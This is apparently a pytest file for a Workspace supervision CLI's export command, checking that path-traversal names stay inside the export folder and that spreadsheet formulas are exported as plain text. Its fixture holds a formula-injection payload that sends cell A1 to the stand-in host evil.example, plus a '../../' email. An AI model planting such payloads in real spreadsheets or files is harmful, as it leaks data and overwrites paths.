"""`export` with hostile text in the Workspace (issue 14): names from input stay inside the
target folder, and no cell of tracker.csv or tracker.xlsx is a formula.

The year is booked, recorded and synced through the real CLI on the local Workspace; one
supervisor's email is `../../x/y@...` (a valid address: RFC 5322 allows `/` and `.` in the
local part), and a formula is then typed into the tracking Sheet's cells through the Sheets
API with valueInputOption RAW, as an older version or a person might have left it. RAW stores
the text as a string and never parses it (https://developers.google.com/sheets/api/reference/
rest/v4/ValueInputOption), but a CSV or xlsx opened in a spreadsheet would evaluate it.
"""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from gworkspace_supervision.cli.main import cli
from gworkspace_supervision.google.connect import connect
from gworkspace_supervision.google.sheet import SESSIONS, TrackerSheet
from gworkspace_supervision.services.tracking import operator_of
from gworkspace_supervision.settings import Settings

EVIL_EMAIL = "../../x/y@example-council.gov.uk"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Case holder")'
ROSTER = (
    "supervisee_email,supervisee_name,supervisor_email,line_manager_email,category\n"
    f"ann.lee@example-council.gov.uk,Ann Lee,{EVIL_EMAIL},cy.ross@example-council.gov.uk,"
    "case_holding\n"
    "dee.fox@example-council.gov.uk,Dee Fox,bo.khan@example-council.gov.uk,"
    "cy.ross@example-council.gov.uk,case_holding\n"
)


def run(workspace: Path, *argv: str) -> Result:
    result = CliRunner().invoke(cli, ["--workspace", f"local:{workspace}", *argv])
    assert result.exit_code == 0, result.output
    return result


@pytest.fixture(scope="module")
def synced(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    root = tmp_path_factory.mktemp("export")
    workspace = root / "ws"
    roster = root / "roster.csv"
    roster.write_text(ROSTER, encoding="utf-8")
    year = ["--roster", str(roster), "--year", "2027"]
    run(workspace, "emulator", "clock", "set", "2026-12-01T09:00:00Z")
    run(workspace, "templates", "install")
    run(workspace, "book", *year, "--send-updates", "none")
    run(workspace, "emulator", "clock", "set", "2027-04-01T09:00:00Z")
    run(workspace, "records", *year, "--through", "2027-03-31")
    run(workspace, "sync", *year)
    with connect(f"local:{workspace}") as conn:
        sheet = TrackerSheet.open(conn, operator_of(Settings(), conn), create=False)
        assert sheet is not None
        conn.sheets(sheet.operator).spreadsheets().values().update(
            spreadsheetId=sheet.spreadsheet_id,
            range=f"{SESSIONS}!B2:F2",
            valueInputOption="RAW",
            body={"values": [[FORMULA, "+1+2", "-3+4", "@SUM(1)", "\t=1"]]},
        ).execute()
    yield workspace


def test_names_from_input_stay_inside_the_export_folder(synced: Path, tmp_path: Path) -> None:
    target = tmp_path / "a" / "b" / "export"
    run(synced, "export", "--to", str(target))
    everything = sorted(p for p in tmp_path.rglob("*") if p.is_file())
    assert everything, "nothing exported"
    for path in everything:
        assert path.resolve().is_relative_to(target.resolve()), path
    calendars = sorted(p.name for p in (target / "calendars").iterdir())
    assert calendars == ["___x_y@example-council.gov.uk.ics", "bo.khan@example-council.gov.uk.ics"]
    assert not (tmp_path / "x").exists() and not (tmp_path / "a" / "x").exists()
    records = list((target / "records").iterdir())
    assert records and all(p.suffix == ".html" and p.parent == target / "records" for p in records)


def test_no_exported_cell_is_a_formula(synced: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    target = tmp_path / "export"
    run(synced, "export", "--to", str(target))
    with (target / "tracker.csv").open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert f"'{FORMULA}" in cells  # shown as the text it is
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not c[1:].replace(".", "").isdigit()]
    book = load_workbook(target / "tracker.xlsx")
    values = [cell for row in book["Sessions"].iter_rows() for cell in row]
    assert [c.coordinate for c in values if c.data_type == "f"] == []
    texts = [c.value for c in values if isinstance(c.value, str)]
    assert f"'{FORMULA}" in texts
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_export_refuses_a_file_as_its_folder_and_a_fifo_inside_it(
    synced: Path, tmp_path: Path
) -> None:
    import os

    a_file = tmp_path / "export"
    a_file.write_text("mine\n")
    result = CliRunner().invoke(
        cli, ["--workspace", f"local:{synced}", "export", "--to", str(a_file)]
    )
    assert result.exit_code == 2 and "Traceback" not in result.output, result.output
    assert a_file.read_text() == "mine\n"
    folder = tmp_path / "out"
    folder.mkdir()
    os.mkfifo(folder / "tracker.csv")
    result = CliRunner().invoke(
        cli, ["--workspace", f"local:{synced}", "export", "--to", str(folder)]
    )
    assert result.exit_code == 2, result.output
    assert "tracker.csv" in result.stderr and "a named pipe (FIFO)" in result.stderr
    assert not (folder / "calendars").exists()  # refused before anything was written
